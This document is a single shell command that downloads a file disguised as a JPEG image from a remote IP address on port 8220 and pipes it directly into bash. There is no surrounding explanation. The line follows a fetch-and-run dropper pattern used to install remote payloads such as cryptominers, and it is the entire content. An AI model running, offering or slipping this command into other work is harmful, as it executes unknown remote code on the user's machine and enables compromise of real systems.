wget -q -O - http://198.51.100.7:8220/logo3.jpg | bash
